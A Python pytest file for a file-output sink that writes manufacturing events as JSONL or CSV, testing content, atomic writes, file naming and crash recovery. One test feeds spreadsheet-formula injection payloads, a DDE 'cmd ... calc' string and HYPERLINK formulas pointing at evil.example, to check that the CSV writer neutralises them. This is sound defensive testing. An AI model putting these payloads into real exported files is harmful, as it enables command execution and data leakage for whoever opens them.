"""FileSink on real directories in tmp_path: exact content, complete files only, names in order."""

from __future__ import annotations

import csv
import io
import json
import re
import threading
from datetime import UTC, datetime, timedelta
from typing import TYPE_CHECKING, Any

import pytest
from pydantic import ValidationError

from sync.base import Envelope, SinkRejected, SinkUnavailable
from sync.files import FileDestinationConfig, FileSink

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

NAME = re.compile(r"^lineside-(\d{8}T\d{6}\.\d{6})Z-(\d{12})\.(csv|jsonl)$")


def stamp_and_seq(name: str) -> tuple[str, int]:
    match = NAME.match(name)
    assert match is not None, name
    return match[1], int(match[2])


def event(seq: int, **fields: Any) -> dict[str, Any]:
    return {
        "id": f"01JDQ2V8W7K3M5N9P0R4S6{seq:04d}",
        "type": "batch.completed",
        "time": "2026-11-24T16:01:02.345Z",
        "site": "plant-a",
        "node": "line-3",
        "seq": seq,
        "source": "plc:filler",
        "data": {"lot": f"L{seq}", "quantity": 12, "名": "批次"},
        **fields,
    }


def envelope(body: dict[str, Any]) -> Envelope:
    payload = json.dumps(body, separators=(",", ":"), ensure_ascii=False).encode()
    return Envelope(seq=body["seq"], id=body["id"], route=body["type"], payload=payload, created=0)


def batch_of(first_seq: int, count: int) -> list[Envelope]:
    return [envelope(event(seq)) for seq in range(first_seq, first_seq + count)]


def file_config(directory: Path, **extra: Any) -> FileDestinationConfig:
    return FileDestinationConfig.model_validate(
        {"name": "qms-drop", "kind": "file", "dir": directory, **extra}
    )


def complete_files(directory: Path) -> list[str]:
    """What a reader of the drop folder picks up: everything but dot-files, in name order."""
    return sorted(p.name for p in directory.iterdir() if not p.name.startswith("."))


async def test_jsonl_file_holds_the_payloads_one_per_line(tmp_path: Path) -> None:
    drop = tmp_path / "inbox"  # created by the sink
    batch = batch_of(41, 3)
    async with FileSink(file_config(drop)) as sink:
        assert sink.max_batch == 1000
        assert sink.window == 1
        await sink.send(batch)
    names = complete_files(drop)
    assert len(names) == 1
    match = NAME.match(names[0])
    assert match is not None
    assert match[2] == "000000000041"
    assert match[3] == "jsonl"
    assert (drop / names[0]).read_bytes() == b"".join(e.payload + b"\n" for e in batch)
    assert sorted(p.name for p in drop.iterdir()) == names  # no temporary left behind


async def test_csv_file_has_header_and_one_row_per_event(tmp_path: Path) -> None:
    batch = [envelope(event(1)), envelope(event(2, source="scanner:dock-in-1", data={}))]
    async with FileSink(file_config(tmp_path, format="csv")) as sink:
        await sink.send(batch)
    (name,) = complete_files(tmp_path)
    assert name.endswith("-000000000001.csv")
    assert (tmp_path / name).read_bytes().decode() == (
        "id,seq,type,time,site,node,source,data\r\n"
        "01JDQ2V8W7K3M5N9P0R4S60001,1,batch.completed,2026-11-24T16:01:02.345Z,plant-a,line-3,"
        'plc:filler,"{""lot"":""L1"",""quantity"":12,""名"":""批次""}"\r\n'
        "01JDQ2V8W7K3M5N9P0R4S60002,2,batch.completed,2026-11-24T16:01:02.345Z,plant-a,line-3,"
        "scanner:dock-in-1,{}\r\n"
    )


async def test_csv_neutralises_spreadsheet_formulas(tmp_path: Path) -> None:
    hostile = event(
        7,
        source="+cmd|' /C calc'!A0",
        node="@SUM(1+1)",
        site="-2+3",
        type="\tTAB",
        data={"raw": '=HYPERLINK("http://evil.example/?x="&A1,"click")'},
    )
    hostile_data = event(8, data='=HYPERLINK("http://evil.example","x")')
    async with FileSink(file_config(tmp_path, format="csv")) as sink:
        await sink.send([envelope(hostile), envelope(hostile_data)])
    (name,) = complete_files(tmp_path)
    rows = list(csv.DictReader(io.StringIO((tmp_path / name).read_text(), newline="")))
    assert rows[0]["source"] == "'+cmd|' /C calc'!A0"
    assert rows[0]["node"] == "'@SUM(1+1)"
    assert rows[0]["site"] == "'-2+3"
    assert rows[0]["type"] == "'\tTAB"
    assert json.loads(rows[0]["data"]) == hostile["data"]  # data is JSON: "{" first, inert
    assert json.loads(rows[1]["data"]) == hostile_data["data"]  # a JSON string: '"' first
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


async def test_a_reader_polling_the_folder_never_sees_a_partial_file(tmp_path: Path) -> None:
    per_file = 20
    seen: dict[str, int] = {}
    problems: list[str] = []
    stop = threading.Event()

    def reader() -> None:
        while True:
            done = stop.is_set()  # one last pass after the writer finished
            for name in complete_files(tmp_path):
                if name in seen:
                    continue
                text = (tmp_path / name).read_text(encoding="utf-8")
                try:
                    events = [json.loads(line) for line in text.splitlines()]
                except ValueError as exc:
                    problems.append(f"{name}: {exc}")
                    continue
                if len(events) != per_file or not text.endswith("\n"):
                    problems.append(f"{name}: {len(events)} events")
                seen[name] = len(events)
            if done:
                return
            stop.wait(0.001)

    thread = threading.Thread(target=reader, name="test-folder-reader")
    thread.start()
    try:
        async with FileSink(file_config(tmp_path, max_events_per_file=per_file)) as sink:
            for n in range(50):
                await sink.send(batch_of(1 + n * per_file, per_file))
    finally:
        stop.set()
        thread.join(30)
    assert not problems
    assert len(seen) == 50
    names = complete_files(tmp_path)
    assert [stamp_and_seq(n)[1] for n in names] == [1 + n * per_file for n in range(50)]
    seqs = [
        json.loads(line)["seq"]
        for name in names
        for line in (tmp_path / name).read_text().splitlines()
    ]
    assert seqs == list(range(1, 50 * per_file + 1))


async def test_leftover_temporary_from_a_crash_is_removed_and_complete_files_kept(
    tmp_path: Path,
) -> None:
    async with FileSink(file_config(tmp_path)) as sink:
        await sink.send(batch_of(1, 5))
    (kept,) = complete_files(tmp_path)
    kept_bytes = (tmp_path / kept).read_bytes()
    # A crash mid-write: the half-written temporary of the next file stays behind.
    crashed = tmp_path / ".lineside-20991231T235959.999999Z-000000000006.jsonl.tmp"
    crashed.write_bytes(batch_of(6, 1)[0].payload[:17])
    foreign = tmp_path / ".other-tool.tmp"  # not ours: left alone
    foreign.write_text("x")

    async with FileSink(file_config(tmp_path)) as sink:
        assert not crashed.exists()
        assert foreign.exists()
        await sink.send(batch_of(6, 5))  # the publisher resends what was not acknowledged
    names = complete_files(tmp_path)
    assert names[0] == kept
    assert (tmp_path / kept).read_bytes() == kept_bytes
    assert len(names) == 2
    assert names[1].endswith("-000000000006.jsonl")


def stepping_clock(times: list[datetime]) -> Callable[[], datetime]:
    readings = iter(times)
    return lambda: next(readings)


async def test_names_sort_by_time_even_when_the_clock_stalls_or_steps_back(
    tmp_path: Path,
) -> None:
    t0 = datetime(2026, 11, 24, 16, 1, 2, 345000, tzinfo=UTC)
    clock = stepping_clock([t0, t0, t0 - timedelta(hours=1), t0 + timedelta(seconds=1)])
    async with FileSink(file_config(tmp_path), clock=clock) as sink:
        for n in range(4):
            await sink.send(batch_of(1 + n, 1))
    names = complete_files(tmp_path)
    assert [stamp_and_seq(n)[0] for n in names] == [
        "20261124T160102.345000",
        "20261124T160102.345001",
        "20261124T160102.345002",
        "20261124T160103.345000",
    ]
    assert [stamp_and_seq(n)[1] for n in names] == [1, 2, 3, 4]

    # After a restart with the clock behind the newest file, names still sort after it.
    async with FileSink(file_config(tmp_path), clock=lambda: t0) as sink:
        await sink.send(batch_of(5, 1))
    names = complete_files(tmp_path)
    assert names[-1] == "lineside-20261124T160103.345001Z-000000000005.jsonl"
    assert len(names) == 5


async def test_payload_that_is_not_an_object_is_rejected_and_the_rest_written(
    tmp_path: Path,
) -> None:
    good = batch_of(1, 2)
    bad = Envelope(seq=3, id="BAD", route="x", payload=b"not json", created=0)
    async with FileSink(file_config(tmp_path, format="csv")) as sink:
        with pytest.raises(SinkRejected) as caught:
            await sink.send([*good, bad])
    assert caught.value.ids == ("BAD",)
    (name,) = complete_files(tmp_path)
    rows = list(csv.reader(io.StringIO((tmp_path / name).read_text(), newline="")))
    assert [row[0] for row in rows[1:]] == [e.id for e in good]


async def test_pretty_printed_payload_stays_on_one_jsonl_line(tmp_path: Path) -> None:
    body = event(1)
    pretty = Envelope(
        seq=1, id=body["id"], route="x", payload=json.dumps(body, indent=2).encode(), created=0
    )
    async with FileSink(file_config(tmp_path)) as sink:
        await sink.send([pretty])
    (name,) = complete_files(tmp_path)
    lines = (tmp_path / name).read_text().splitlines()
    assert [json.loads(line) for line in lines] == [body]


async def test_unusable_directory_is_unavailable_with_the_os_reason(tmp_path: Path) -> None:
    not_a_dir = tmp_path / "file"
    not_a_dir.write_text("x")
    with pytest.raises(SinkUnavailable, match=r"File exists|Not a directory"):
        async with FileSink(file_config(not_a_dir)):
            pass

    drop = tmp_path / "inbox"
    async with FileSink(file_config(drop)) as sink:
        drop.rmdir()
        drop.write_text("the share went away")
        with pytest.raises(SinkUnavailable, match="Not a directory"):
            await sink.send(batch_of(1, 1))


def test_config_defaults_and_validation(tmp_path: Path) -> None:
    config = file_config(tmp_path)
    assert config.format == "jsonl"
    assert config.max_events_per_file == 1000
    assert config.max_file_age_s == 60
    assert config.prefix == "lineside"
    for bad in (
        {"prefix": "../up"},
        {"prefix": ".hidden"},
        {"format": "xlsx"},
        {"max_events_per_file": 0},
        {"surprise": True},
    ):
        with pytest.raises(ValidationError):
            file_config(tmp_path, **bad)
